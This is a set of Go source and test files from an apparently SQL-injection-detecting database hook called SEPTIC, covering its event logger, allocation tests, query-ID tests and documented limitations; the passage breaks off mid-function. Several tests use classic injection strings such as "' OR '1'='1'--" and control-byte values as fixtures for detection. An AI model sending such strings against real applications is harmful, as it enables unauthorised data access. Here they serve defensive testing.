	s := fmt.Sprintf("[%d] %s id=%s", e.Seq, e.Kind, e.QueryID)
	if e.Domain != "" && e.Domain != "default" {
		s += " domain=" + e.Domain
	}
	if e.Attack != AttackNone {
		s += fmt.Sprintf(" attack=%s", e.Attack)
		if e.Attack == AttackSQLI {
			s += fmt.Sprintf(" step=%s", e.Step)
		}
		if e.Plugin != "" {
			s += fmt.Sprintf(" plugin=%s", e.Plugin)
		}
	}
	if e.Detail != "" {
		s += " — " + e.Detail
	}
	return s
}

// LogCounters aggregates the logger's event counts.
type LogCounters struct {
	ModelsLearned  int64
	NewQueries     int64
	QueriesChecked int64
	Detected       int64
	Blocked        int64
}

// Logger is SEPTIC's event register: a bounded in-memory buffer plus an
// optional stream for live display. It is safe for concurrent use.
//
// Locking: mu guards only the in-memory state (sequence and buffer);
// counters are atomics and need no lock. Stream writes happen under a
// separate streamMu so slow I/O (a blocked pipe, a fsyncing audit file)
// never stalls concurrent sessions that only need to append to the
// buffer. The two locks are coupled hand-over-hand — streamMu is taken
// before mu is released — so the streams still observe events in
// sequence order.
type Logger struct {
	mu       sync.Mutex
	seq      int64
	events   []Event
	capacity int

	streamMu   sync.Mutex
	stream     io.Writer
	jsonStream io.Writer

	clock func() time.Time

	// checkedEvery samples EventQueryChecked admission: 1 logs every
	// event (default), 0 logs none, n logs every n-th. Counters stay
	// exact regardless — sampling only thins the buffer and streams.
	checkedEvery atomic.Int64
	checkedTick  atomic.Int64

	modelsLearned  atomic.Int64
	newQueries     atomic.Int64
	queriesChecked atomic.Int64
	detected       atomic.Int64
	blocked        atomic.Int64
}

// LoggerOption configures a Logger.
type LoggerOption func(*Logger)

// WithCapacity bounds the in-memory event buffer (default 4096).
func WithCapacity(n int) LoggerOption {
	return func(l *Logger) { l.capacity = n }
}

// WithClock injects the logger's time source (tests, benchmarks).
func WithClock(clock func() time.Time) LoggerOption {
	return func(l *Logger) { l.clock = clock }
}

// WithStream mirrors every event line to w (the demo's live display).
func WithStream(w io.Writer) LoggerOption {
	return func(l *Logger) { l.stream = w }
}

// WithJSONStream mirrors every event to w as one JSON object per line —
// the audit-log format a SIEM ingests. Both streams may be active.
func WithJSONStream(w io.Writer) LoggerOption {
	return func(l *Logger) { l.jsonStream = w }
}

// WithCheckedSampling sets the EventQueryChecked admission rate: 1 logs
// every passed check (default), 0 logs none, n logs every n-th. Only the
// per-query "checked and passed" chatter is sampled; attacks, learned
// models and mode changes are always logged, and the QueriesChecked
// counter stays exact at any rate.
func WithCheckedSampling(n int) LoggerOption {
	return func(l *Logger) { l.checkedEvery.Store(int64(n)) }
}

// NewLogger builds an event register.
func NewLogger(opts ...LoggerOption) *Logger {
	l := &Logger{capacity: 4096, clock: time.Now}
	l.checkedEvery.Store(1)
	for _, o := range opts {
		o(l)
	}
	return l
}

// SetCheckedSampling adjusts the EventQueryChecked admission rate at
// runtime (see WithCheckedSampling).
func (l *Logger) SetCheckedSampling(n int) {
	l.checkedEvery.Store(int64(n))
}

// admitChecked decides whether this EventQueryChecked is buffered and
// streamed under the current sampling rate.
func (l *Logger) admitChecked() bool {
	every := l.checkedEvery.Load()
	switch {
	case every == 1:
		return true
	case every <= 0:
		return false
	}
	return l.checkedTick.Add(1)%every == 0
}

// Log counts an event, and — unless it is an EventQueryChecked thinned
// out by sampling — stamps, buffers and streams it.
func (l *Logger) Log(e Event) {
	l.count(e.Kind)
	if e.Kind == EventQueryChecked && !l.admitChecked() {
		return
	}
	l.emit(e)
}

// LogQueryChecked is the allocation-free fast path for the hook's
// hottest event: the counter bump is an atomic add, and when sampling
// drops the event nothing else happens — no Event is built at all.
func (l *Logger) LogQueryChecked(id, query string) {
	l.queriesChecked.Add(1)
	if !l.admitChecked() {
		return
	}
	l.emit(Event{Kind: EventQueryChecked, QueryID: id, Query: query})
}

// count bumps the aggregate counter for kind.
func (l *Logger) count(kind EventKind) {
	switch kind {
	case EventModelLearned:
		l.modelsLearned.Add(1)
	case EventNewQuery:
		l.newQueries.Add(1)
	case EventQueryChecked:
		l.queriesChecked.Add(1)
	case EventAttackDetected:
		l.detected.Add(1)
	case EventAttackBlocked:
		l.blocked.Add(1)
	}
}

// emit stamps the event, appends it to the bounded buffer, and mirrors
// it to the streams. Only the stamp and append run under mu; formatting
// and stream I/O happen under streamMu so a slow stream consumer cannot
// stall sessions appending events concurrently. streamMu is acquired
// before mu is released (lock coupling) so stream output preserves
// sequence order.
func (l *Logger) emit(e Event) {
	l.mu.Lock()
	l.seq++
	e.Seq = l.seq
	e.Time = l.clock()
	if len(l.events) >= l.capacity {
		// Drop the oldest half to amortize copying.
		half := len(l.events) / 2
		l.events = append(l.events[:0], l.events[half:]...)
	}
	l.events = append(l.events, e)
	if l.stream == nil && l.jsonStream == nil {
		l.mu.Unlock()
		return
	}
	l.streamMu.Lock()
	l.mu.Unlock()
	defer l.streamMu.Unlock()
	if l.stream != nil {
		_, _ = fmt.Fprintln(l.stream, e.String())
	}
	if l.jsonStream != nil {
		if data, err := json.Marshal(auditRecord(e)); err == nil {
			data = append(data, '\n')
			_, _ = l.jsonStream.Write(data)
		}
	}
}

// auditEntry is the stable JSON shape of one audit record.
type auditEntry struct {
	Seq     int64  `json:"seq"`
	Time    string `json:"time"`
	Kind    string `json:"kind"`
	Domain  string `json:"domain,omitempty"`
	QueryID string `json:"query_id,omitempty"`
	Query   string `json:"query,omitempty"`
	Attack  string `json:"attack,omitempty"`
	Step    string `json:"step,omitempty"`
	Plugin  string `json:"plugin,omitempty"`
	Detail  string `json:"detail,omitempty"`
}

func auditRecord(e Event) auditEntry {
	rec := auditEntry{
		Seq:     e.Seq,
		Time:    e.Time.UTC().Format(time.RFC3339Nano),
		Kind:    e.Kind.String(),
		Domain:  e.Domain,
		QueryID: e.QueryID,
		Query:   e.Query,
		Detail:  e.Detail,
	}
	if e.Attack != AttackNone {
		rec.Attack = e.Attack.String()
		if e.Attack == AttackSQLI {
			rec.Step = e.Step.String()
		}
		rec.Plugin = e.Plugin
	}
	return rec
}

// Events returns a snapshot of the buffered events.
func (l *Logger) Events() []Event {
	l.mu.Lock()
	defer l.mu.Unlock()
	out := make([]Event, len(l.events))
	copy(out, l.events)
	return out
}

// Counters returns a snapshot of the aggregate counts. Counts are exact
// even when EventQueryChecked sampling discards buffer entries.
func (l *Logger) Counters() LogCounters {
	return LogCounters{
		ModelsLearned:  l.modelsLearned.Load(),
		NewQueries:     l.newQueries.Load(),
		QueriesChecked: l.queriesChecked.Load(),
		Detected:       l.detected.Load(),
		Blocked:        l.blocked.Load(),
	}
}

// Attacks returns only the attack events (the demo's phase-E filter).
func (l *Logger) Attacks() []Event {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []Event
	for _, e := range l.events {
		if e.Kind == EventAttackDetected || e.Kind == EventAttackBlocked {
			out = append(out, e)
		}
	}
	return out
}
