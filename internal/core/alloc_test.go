package core

import (
	"testing"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/raceflag"
	"github.com/septic-db/septic/internal/sqlparser"
)

// hookCtxFor parses q into the HookContext shape the engine hands to the
// hook.
func hookCtxFor(t testing.TB, q string) *engine.HookContext {
	t.Helper()
	stmt, err := sqlparser.Parse(q)
	if err != nil {
		t.Fatalf("Parse(%q): %v", q, err)
	}
	return &engine.HookContext{
		Raw:      q,
		Decoded:  sqlparser.DecodeCharset(q),
		Stmt:     stmt,
		Comments: stmt.StatementComments(),
	}
}

// TestCachedHitAllocationFree is the tentpole's regression guard: a
// repeated known-benign query served from the verdict cache must not
// allocate at all. Checked-event sampling is off, as in the benchmark
// configuration — counters still tick, but no Event is built.
func TestCachedHitAllocationFree(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("race instrumentation adds allocations")
	}
	sep := New(Config{Mode: ModeTraining},
		WithLogger(NewLogger(WithCheckedSampling(0))))
	hctx := hookCtxFor(t, "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
	if err := sep.BeforeExecute(hctx); err != nil { // learn the model
		t.Fatalf("training: %v", err)
	}
	sep.SetConfig(DefaultConfig())
	if err := sep.BeforeExecute(hctx); err != nil { // miss: populate cache
		t.Fatalf("warm-up: %v", err)
	}
	allocs := testing.AllocsPerRun(1000, func() {
		if err := sep.BeforeExecute(hctx); err != nil {
			t.Fatalf("cached hit: %v", err)
		}
	})
	if allocs != 0 {
		t.Errorf("cached-hit hook path allocates %.1f objects/op, want 0", allocs)
	}
	if sep.CacheStats().Hits == 0 {
		t.Fatal("cache never hit — the guard measured the wrong path")
	}
}

// TestCachedHitAllocationFreeDomain extends the tentpole guard to the
// domain-routed path: with protection domains registered, a repeated
// known-benign query carrying an "/* app:id */" prefix must route to
// its domain and still be served from that domain's verdict cache with
// ZERO allocations. Domain resolution is one prefix scan plus one map
// lookup off an atomic snapshot — if this fails, routing started
// copying or boxing per query.
func TestCachedHitAllocationFreeDomain(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("race instrumentation adds allocations")
	}
	sep := New(Config{Mode: ModeTraining},
		WithLogger(NewLogger(WithCheckedSampling(0))))
	d, err := sep.RegisterDomain("shop", Config{Mode: ModeTraining, IncrementalLearning: true})
	if err != nil {
		t.Fatal(err)
	}
	hctx := hookCtxFor(t, "/* shop:tickets */ SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
	if err := sep.BeforeExecute(hctx); err != nil { // learn in the shop domain
		t.Fatalf("training: %v", err)
	}
	d.SetConfig(DefaultConfig())
	if err := sep.BeforeExecute(hctx); err != nil { // miss: populate the domain's cache
		t.Fatalf("warm-up: %v", err)
	}
	allocs := testing.AllocsPerRun(1000, func() {
		if err := sep.BeforeExecute(hctx); err != nil {
			t.Fatalf("cached hit: %v", err)
		}
	})
	if allocs != 0 {
		t.Errorf("domain-routed cached-hit path allocates %.1f objects/op, want 0", allocs)
	}
	if d.CacheStats().Hits == 0 {
		t.Fatal("domain cache never hit — the query did not route to its domain")
	}
	if sep.DefaultDomain().CacheStats().Hits != 0 {
		t.Fatal("default-domain cache hit — routing leaked to the default partition")
	}
}

// TestCachedHitAllocationFreeWithObs guards the ENABLED observability
// budget: instrumentation on the cached hot path is one time.Now pair
// and two histogram Observes — atomics into fixed buckets, never an
// allocation. If this fails, something on the obs path started
// formatting or boxing per query.
func TestCachedHitAllocationFreeWithObs(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("race instrumentation adds allocations")
	}
	hub := obs.NewHub(64)
	sep := New(Config{Mode: ModeTraining},
		WithLogger(NewLogger(WithCheckedSampling(0))),
		WithObserver(hub))
	hctx := hookCtxFor(t, "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
	if err := sep.BeforeExecute(hctx); err != nil {
		t.Fatalf("training: %v", err)
	}
	sep.SetConfig(DefaultConfig())
	if err := sep.BeforeExecute(hctx); err != nil {
		t.Fatalf("warm-up: %v", err)
	}
	allocs := testing.AllocsPerRun(1000, func() {
		if err := sep.BeforeExecute(hctx); err != nil {
			t.Fatalf("cached hit: %v", err)
		}
	})
	if allocs != 0 {
		t.Errorf("instrumented cached-hit path allocates %.1f objects/op, want 0", allocs)
	}
	if hub.Metrics.Histogram("core.hook.cached_hit").Snapshot().Count == 0 {
		t.Fatal("hit histogram empty — instrumentation did not run")
	}
}

// TestCachedHitAllocationFreeReplica extends the tentpole guard to a
// replica-fed Septic: models arrive through the replication apply path
// (ReplicaState.ApplyRecord), the stores are read-only, and a repeated
// known-benign detection read must still be served from the verdict
// cache with ZERO allocations — the replica gate is one atomic load on
// the training path, never a cost on the cached hit.
func TestCachedHitAllocationFreeReplica(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("race instrumentation adds allocations")
	}
	// A primary learns one model; its WAL records feed the replica.
	primary := New(Config{Mode: ModeTraining},
		WithLogger(NewLogger(WithCheckedSampling(0))))
	pp, err := primary.AttachPersistence(PersistenceOptions{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer pp.Close()
	hctx := hookCtxFor(t, "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
	if err := primary.BeforeExecute(hctx); err != nil {
		t.Fatalf("primary training: %v", err)
	}
	recs, err := pp.ReplReadFrom(0, 0)
	if err != nil || len(recs) == 0 {
		t.Fatalf("primary WAL: %d records, err %v", len(recs), err)
	}

	sep := New(DefaultConfig(),
		WithLogger(NewLogger(WithCheckedSampling(0))))
	rs, err := sep.AttachReplicaSource()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		if err := rs.ApplyRecord(rec.Seq, rec.Data); err != nil {
			t.Fatalf("apply %d: %v", rec.Seq, err)
		}
	}
	if err := sep.BeforeExecute(hctx); err != nil { // miss: populate cache
		t.Fatalf("warm-up: %v", err)
	}
	allocs := testing.AllocsPerRun(1000, func() {
		if err := sep.BeforeExecute(hctx); err != nil {
			t.Fatalf("cached hit: %v", err)
		}
	})
	if allocs != 0 {
		t.Errorf("replica cached-hit hook path allocates %.1f objects/op, want 0", allocs)
	}
	if sep.CacheStats().Hits == 0 {
		t.Fatal("cache never hit — the guard measured the wrong path")
	}
}

// execAllocCeiling is the allocation budget for a protected repeated
// point SELECT through the full engine path (parse cache + verdict
// cache + lock plan + execution). Measured 16 allocs/op after the
// allocation diet (down from 32 at the seed) — all of them result
// materialization in the select executor. The ceiling leaves slack for
// toolchain variation while still catching a regression toward the old
// cost.
const execAllocCeiling = 20

// TestExecPointSelectAllocCeiling guards the end-to-end path: the
// remaining allocations should be the result materialization, not
// parsing or detection.
func TestExecPointSelectAllocCeiling(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("race instrumentation adds allocations")
	}
	sep := New(Config{Mode: ModeTraining},
		WithLogger(NewLogger(WithCheckedSampling(0))))
	db := engine.New(engine.WithQueryHook(sep))
	setup := []string{
		"CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, reservID TEXT, creditCard INT)",
		"INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)",
	}
	for _, q := range setup {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("setup %q: %v", q, err)
		}
	}
	q := "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234"
	if _, err := db.Exec(q); err != nil { // learn
		t.Fatalf("training: %v", err)
	}
	sep.SetConfig(DefaultConfig())
	if _, err := db.Exec(q); err != nil { // warm both caches
		t.Fatalf("warm-up: %v", err)
	}
	allocs := testing.AllocsPerRun(500, func() {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("exec: %v", err)
		}
	})
	if allocs > execAllocCeiling {
		t.Errorf("protected point SELECT allocates %.1f objects/op, want <= %d",
			allocs, execAllocCeiling)
	}
}
