package core

import (
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/qstruct"
)

func fixedClock() func() time.Time {
	t0 := time.Date(2017, 6, 26, 9, 0, 0, 0, time.UTC)
	return func() time.Time { return t0 }
}

func TestLoggerSequencesAndCounts(t *testing.T) {
	l := NewLogger(WithClock(fixedClock()))
	l.Log(Event{Kind: EventModelLearned, QueryID: "a"})
	l.Log(Event{Kind: EventQueryChecked, QueryID: "a"})
	l.Log(Event{Kind: EventAttackBlocked, QueryID: "a", Attack: AttackSQLI})
	events := l.Events()
	if len(events) != 3 {
		t.Fatalf("got %d events", len(events))
	}
	for i, e := range events {
		if e.Seq != int64(i+1) {
			t.Errorf("event %d has seq %d", i, e.Seq)
		}
		if e.Time.IsZero() {
			t.Errorf("event %d has zero time", i)
		}
	}
	c := l.Counters()
	if c.ModelsLearned != 1 || c.QueriesChecked != 1 || c.Blocked != 1 {
		t.Errorf("counters = %+v", c)
	}
}

func TestLoggerCapacityBounded(t *testing.T) {
	l := NewLogger(WithCapacity(10))
	for i := 0; i < 100; i++ {
		l.Log(Event{Kind: EventQueryChecked})
	}
	events := l.Events()
	if len(events) > 10 {
		t.Errorf("buffer grew to %d events, capacity 10", len(events))
	}
	// Counters survive truncation.
	if c := l.Counters(); c.QueriesChecked != 100 {
		t.Errorf("checked = %d, want 100", c.QueriesChecked)
	}
	// The newest event is retained.
	if events[len(events)-1].Seq != 100 {
		t.Errorf("latest seq = %d, want 100", events[len(events)-1].Seq)
	}
}

func TestLoggerStream(t *testing.T) {
	var buf strings.Builder
	l := NewLogger(WithStream(&buf))
	l.Log(Event{Kind: EventAttackBlocked, QueryID: "q1", Attack: AttackSQLI,
		Step: qstruct.StepStructural, Detail: "node count"})
	out := buf.String()
	for _, want := range []string{"attack-blocked", "q1", "sqli", "structural", "node count"} {
		if !strings.Contains(out, want) {
			t.Errorf("stream %q missing %q", out, want)
		}
	}
}

func TestLoggerJSONStream(t *testing.T) {
	var buf strings.Builder
	l := NewLogger(WithClock(fixedClock()), WithJSONStream(&buf))
	l.Log(Event{Kind: EventAttackBlocked, QueryID: "q1", Query: "SELECT 1",
		Attack: AttackSQLI, Step: qstruct.StepStructural, Detail: "count"})
	l.Log(Event{Kind: EventQueryChecked, QueryID: "q2"})

	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2 {
		t.Fatalf("lines = %d: %q", len(lines), buf.String())
	}
	var rec map[string]any
	if err := json.Unmarshal([]byte(lines[0]), &rec); err != nil {
		t.Fatalf("line 0 is not JSON: %v", err)
	}
	for key, want := range map[string]string{
		"kind": "attack-blocked", "query_id": "q1", "attack": "sqli",
		"step": "structural", "detail": "count", "query": "SELECT 1",
	} {
		if rec[key] != want {
			t.Errorf("record[%s] = %v, want %q", key, rec[key], want)
		}
	}
	if rec["seq"].(float64) != 1 {
		t.Errorf("seq = %v", rec["seq"])
	}
	if _, err := time.Parse(time.RFC3339Nano, rec["time"].(string)); err != nil {
		t.Errorf("time not RFC3339: %v", rec["time"])
	}
	// The benign record omits attack fields.
	rec = nil
	if err := json.Unmarshal([]byte(lines[1]), &rec); err != nil {
		t.Fatal(err)
	}
	if _, present := rec["attack"]; present {
		t.Errorf("benign record carries attack field: %v", rec)
	}
}

func TestLoggerAttacksFilter(t *testing.T) {
	l := NewLogger()
	l.Log(Event{Kind: EventQueryChecked})
	l.Log(Event{Kind: EventAttackDetected, Attack: AttackStored, Plugin: "stored-xss"})
	l.Log(Event{Kind: EventAttackBlocked, Attack: AttackSQLI})
	attacks := l.Attacks()
	if len(attacks) != 2 {
		t.Fatalf("attacks = %d, want 2", len(attacks))
	}
}

func TestLoggerConcurrent(t *testing.T) {
	l := NewLogger(WithCapacity(128))
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				l.Log(Event{Kind: EventQueryChecked})
			}
		}()
	}
	wg.Wait()
	if c := l.Counters(); c.QueriesChecked != 800 {
		t.Errorf("checked = %d, want 800", c.QueriesChecked)
	}
}

func TestEventString(t *testing.T) {
	e := Event{Seq: 7, Kind: EventAttackBlocked, QueryID: "id1",
		Attack: AttackSQLI, Step: qstruct.StepSyntactical, Detail: "node 5"}
	s := e.String()
	for _, want := range []string{"[7]", "attack-blocked", "id=id1", "attack=sqli", "step=syntactical", "node 5"} {
		if !strings.Contains(s, want) {
			t.Errorf("String() = %q missing %q", s, want)
		}
	}
	plugin := Event{Seq: 1, Kind: EventAttackDetected, Attack: AttackStored, Plugin: "stored-xss"}
	if !strings.Contains(plugin.String(), "plugin=stored-xss") {
		t.Errorf("String() = %q", plugin.String())
	}
}
