package core

import (
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/sqlparser"
)

func idOf(t *testing.T, g *IDGenerator, query string) string {
	t.Helper()
	stmt, err := sqlparser.Parse(query)
	if err != nil {
		t.Fatalf("Parse(%q): %v", query, err)
	}
	return g.ID(stmt, stmt.StatementComments())
}

func TestIDStableAcrossDataValues(t *testing.T) {
	g := NewIDGenerator()
	a := idOf(t, g, "SELECT * FROM tickets WHERE reservID = 'A' AND creditCard = 1")
	b := idOf(t, g, "SELECT * FROM tickets WHERE reservID = 'B' AND creditCard = 999")
	if a != b {
		t.Errorf("IDs differ for same query shape: %q vs %q", a, b)
	}
}

// TestIDStableUnderAttack is the property that makes detection work: an
// injected query must produce the same ID as its victim so it is
// compared against the learned model instead of being treated as new.
func TestIDStableUnderAttack(t *testing.T) {
	g := NewIDGenerator()
	victim := idOf(t, g, "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
	attacked := []string{
		"SELECT * FROM tickets WHERE reservID = 'ID34FG'-- ' AND creditCard = 0",
		"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0",
		"SELECT * FROM tickets WHERE reservID = '' OR '1'='1'-- ' AND creditCard = 0",
	}
	for _, q := range attacked {
		if got := idOf(t, g, q); got != victim {
			t.Errorf("attacked query has different ID:\n  %q -> %q (victim %q)", q, got, victim)
		}
	}
}

func TestIDDistinguishesDifferentQueries(t *testing.T) {
	g := NewIDGenerator()
	ids := map[string]string{}
	for _, q := range []string{
		"SELECT * FROM tickets WHERE id = 1",
		"SELECT * FROM users WHERE id = 1",
		"SELECT id FROM tickets WHERE id = 1",
		"DELETE FROM tickets WHERE id = 1",
		"UPDATE tickets SET reservID = 'x' WHERE id = 1",
		"INSERT INTO tickets (reservID) VALUES ('x')",
	} {
		id := idOf(t, g, q)
		if prev, dup := ids[id]; dup {
			t.Errorf("ID collision between %q and %q", prev, q)
		}
		ids[id] = q
	}
}

func TestExternalIDComposition(t *testing.T) {
	g := NewIDGenerator()
	plain := idOf(t, g, "SELECT id FROM tickets WHERE id = 1")
	tagged := idOf(t, g, "/* waspmon:devices:17 */ SELECT id FROM tickets WHERE id = 1")
	if tagged == plain {
		t.Error("external identifier should alter the ID")
	}
	if want := "waspmon:devices:17#" + plain; tagged != want {
		t.Errorf("tagged = %q, want %q", tagged, want)
	}
}

func TestExternalIDDisabled(t *testing.T) {
	g := &IDGenerator{UseExternal: false}
	plain := idOf(t, g, "SELECT id FROM tickets WHERE id = 1")
	tagged := idOf(t, g, "/* anything */ SELECT id FROM tickets WHERE id = 1")
	if tagged != plain {
		t.Error("disabled external identifiers must not alter the ID")
	}
}

func TestExternalIDExtraction(t *testing.T) {
	tests := []struct {
		comments []string
		want     string
	}{
		{nil, ""},
		{[]string{}, ""},
		{[]string{"app:q1"}, "app:q1"},
		{[]string{"  spaced  "}, "spaced"},
		{[]string{"first", "second"}, "first"},
	}
	for _, tt := range tests {
		if got := ExternalID(tt.comments); got != tt.want {
			t.Errorf("ExternalID(%v) = %q, want %q", tt.comments, got, tt.want)
		}
	}
}

// TestExternalIDRejectsMalformed pins the hardening contract: a comment
// body that cannot serve as an identifier degrades to "no external
// identifier" (empty string) rather than producing a corrupt or
// unbounded store key. Rejection is total — there is no partial
// sanitization that an attacker could steer.
func TestExternalIDRejectsMalformed(t *testing.T) {
	oversized := strings.Repeat("x", MaxExternalIDLen+1)
	atLimit := strings.Repeat("y", MaxExternalIDLen)
	tests := []struct {
		name string
		body string
		want string
	}{
		{"embedded newline", "app:q1\ninjected", ""},
		{"embedded CR", "app:q1\rinjected", ""},
		{"embedded CRLF", "line one\r\nline two", ""},
		{"embedded tab", "app\tq1", ""},
		{"embedded NUL", "app\x00q1", ""},
		{"escape byte", "app\x1b[31mq1", ""},
		{"DEL byte", "app\x7fq1", ""},
		{"control byte at start", "\x01app:q1", ""},
		{"control byte at end", "app:q1\x02", ""},
		{"oversized", oversized, ""},
		{"oversized after trim", " " + oversized + " ", ""},
		{"exactly at limit", atLimit, atLimit},
		{"surrounding whitespace trims clean", "\n\t app:q1 \t\n", "app:q1"},
		{"whitespace only", " \t\n ", ""},
		{"multibyte text survives", "app:héllo", "app:héllo"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := ExternalID([]string{tt.body}); got != tt.want {
				t.Errorf("ExternalID(%q) = %q, want %q", tt.body, got, tt.want)
			}
		})
	}
}

// TestUnterminatedCommentRejectedByParser documents where the third
// malformed-comment shape is handled: an unterminated "/*" never
// produces a statement, so ExternalID never sees it.
func TestUnterminatedCommentRejectedByParser(t *testing.T) {
	for _, q := range []string{
		"/* app:q1 SELECT id FROM tickets WHERE id = 1",
		"/* SELECT 1",
		"/*",
	} {
		if _, err := sqlparser.Parse(q); err == nil {
			t.Errorf("Parse(%q) accepted an unterminated comment", q)
		}
	}
}

// TestMalformedExternalIDFallsBackToInternal shows the degradation
// end-to-end through the generator: a rejected comment body yields the
// same ID as having no comment at all — the query keeps its full
// skeleton-hash protection.
func TestMalformedExternalIDFallsBackToInternal(t *testing.T) {
	g := NewIDGenerator()
	plain := idOf(t, g, "SELECT id FROM tickets WHERE id = 1")
	stmt, err := sqlparser.Parse("SELECT id FROM tickets WHERE id = 1")
	if err != nil {
		t.Fatal(err)
	}
	for _, body := range []string{
		"app:q1\nsecond line",
		strings.Repeat("x", MaxExternalIDLen+1),
		"ctl\x07chars",
	} {
		if got := g.ID(stmt, []string{body}); got != plain {
			t.Errorf("malformed comment %q altered the ID: %q vs %q", body, got, plain)
		}
	}
}
