package core

import (
	"errors"
	"testing"

	"github.com/septic-db/septic/internal/engine"
)

// This file documents SEPTIC's known limitations as executable tests —
// behaviours inherent to the design (and present in the paper's
// prototype) rather than bugs, plus the mitigations the design offers.

// TestCrossSiteMimicryWithoutExternalIDs: when the application supplies
// no external identifiers, queries are identified by their skeleton
// alone. Two call sites issuing the same skeleton share one model, so an
// injection at site A that reproduces the exact structure site A was
// trained with... is just the trained structure. But an attacker who can
// morph site A's query into site B's *full trained structure* would go
// undetected only if the two sites also share a skeleton — in which case
// they share a model and the structures are identical anyway. The
// interesting (and real) residual risk is different: with identical
// skeletons, training site A implicitly whitelists its structure for
// site B. External identifiers split the models per call site.
func TestCrossSiteMimicryWithoutExternalIDs(t *testing.T) {
	guard := New(Config{Mode: ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	if _, err := db.Exec("CREATE TABLE t (a TEXT, b INT)"); err != nil {
		t.Fatal(err)
	}
	// Site A trains: WHERE a = 'x' AND b = 1 (no external ID).
	if _, err := db.Exec("SELECT * FROM t WHERE a = 'x' AND b = 1"); err != nil {
		t.Fatal(err)
	}
	before := guard.Store().Len()
	// Site B issues the same skeleton (same projection, same table) but
	// a different WHERE: with shared IDs this is flagged as an attack,
	// even though it is a legitimate different call site — the flip side
	// of skeleton-only identification.
	guard.SetConfig(Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	_, err := db.Exec("SELECT * FROM t WHERE b = 2")
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("same-skeleton different-structure query: err = %v (this is the documented FP risk)", err)
	}
	_ = before

	// Mitigation: external identifiers split the ID space per call site.
	guard2 := New(Config{Mode: ModeTraining})
	db2 := engine.New(engine.WithQueryHook(guard2))
	if _, err := db2.Exec("CREATE TABLE t (a TEXT, b INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db2.Exec("/* siteA */ SELECT * FROM t WHERE a = 'x' AND b = 1"); err != nil {
		t.Fatal(err)
	}
	if _, err := db2.Exec("/* siteB */ SELECT * FROM t WHERE b = 2"); err != nil {
		t.Fatal(err)
	}
	guard2.SetConfig(Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	if _, err := db2.Exec("/* siteB */ SELECT * FROM t WHERE b = 3"); err != nil {
		t.Errorf("site B's own query blocked despite external IDs: %v", err)
	}
	if _, err := db2.Exec("/* siteA */ SELECT * FROM t WHERE a = 'y' AND b = 9"); err != nil {
		t.Errorf("site A's own query blocked despite external IDs: %v", err)
	}
}

// TestIncrementalLearningCanBePoisoned: in normal mode with incremental
// learning on, the FIRST sighting of a query shape is learned, even if
// it is an attack — the paper assigns the cleanup to the administrator
// ("the programmer/administrator will have to decide if the query model
// comes from a malicious or a benign query"). The store's Delete is that
// review mechanism.
func TestIncrementalLearningCanBePoisoned(t *testing.T) {
	guard := New(Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: true})
	db := engine.New(engine.WithQueryHook(guard))
	if _, err := db.Exec("CREATE TABLE t (a TEXT)"); err != nil {
		t.Fatal(err)
	}
	// The attacker gets there first: the poisoned shape is learned.
	poisoned := "SELECT * FROM t WHERE a = 'x' OR '1'='1'"
	if _, err := db.Exec(poisoned); err != nil {
		t.Fatalf("first sighting executes under incremental learning: %v", err)
	}
	// And now it keeps passing.
	if _, err := db.Exec(poisoned); err != nil {
		t.Fatalf("poisoned model accepted its own shape: %v", err)
	}

	// Administrator review: find the new-query event, delete the model.
	var poisonedID string
	for _, e := range guard.Logger().Events() {
		if e.Kind == EventNewQuery && e.Query == poisoned {
			poisonedID = e.QueryID
		}
	}
	if poisonedID == "" {
		t.Fatal("new-query event for the poisoned shape not logged")
	}
	guard.Store().Delete(poisonedID)
	guard.SetConfig(Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	// With the model gone and learning off, the shape no longer passes
	// silently — there is simply no model, and nothing is learned.
	if _, err := db.Exec(poisoned); err != nil {
		t.Fatalf("unknown query executes (and is not learned): %v", err)
	}
	if guard.Store().Len() != 2 { // CREATE + the legitimate... actually CREATE + nothing else
		// Store contents: the CREATE TABLE model and any other learned
		// shapes; what matters is the poisoned one stayed gone.
		if _, ok := guard.Store().Get(poisonedID); ok {
			t.Error("poisoned model resurrected")
		}
	}
}

// TestDetectionModeStoredInjectionExecutes completes the Table I matrix
// for the stored-injection branch: detection mode logs the stored attack
// and still executes the INSERT.
func TestDetectionModeStoredInjectionExecutes(t *testing.T) {
	guard := New(Config{Mode: ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
